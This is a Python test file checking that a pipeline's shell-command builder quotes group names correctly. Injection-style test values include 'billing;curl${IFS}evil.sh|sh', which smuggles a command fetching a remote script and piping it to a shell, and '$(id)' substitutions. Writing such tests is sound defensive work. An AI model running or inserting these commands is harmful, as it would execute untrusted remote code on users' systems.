"""Commands in messages reach the group that they are about, and do nothing else, whatever its name."""

import subprocess

import pytest

from pipeline import shell
from pipeline.planning import broker_reasons, reasons
from pipeline.planning.life import order_reasons

HOSTILE = "billing;curl${IFS}evil.sh|sh"


@pytest.mark.parametrize("name", ["-foo", "a\nb", "\\it's\x1b[31m", "é\tü", "$(id)`id`", "--", HOSTILE])
def test_command_for_a_group_reaches_that_group_in_a_shell(name: str) -> None:
    command = shell.command("doctor", name).removeprefix("`lagwise doctor").removesuffix("`")
    assert command.isprintable()

    printed = subprocess.run(["bash", "-c", f"printf '%s\\0'{command}"], capture_output=True, check=True)

    *options, last = printed.stdout.decode().removesuffix("\0").split("\0")
    assert (options, last) == (["--"] if name.startswith("-") else [], name)


@pytest.mark.parametrize(
    ("reason", "command"),
    [
        (reasons.paused("eva@desk", "", HOSTILE), "resume"),
        (order_reasons.awaiting_approval("2026-01-31T12:00:00Z", HOSTILE), "approve"),
        (broker_reasons.member_stuck("b-1", HOSTILE), "doctor"),
    ],
)
def test_reasons_quote_the_group_in_their_commands(reason: str, command: str) -> None:
    assert f"`lagwise {command} '{HOSTILE}'`" in reason
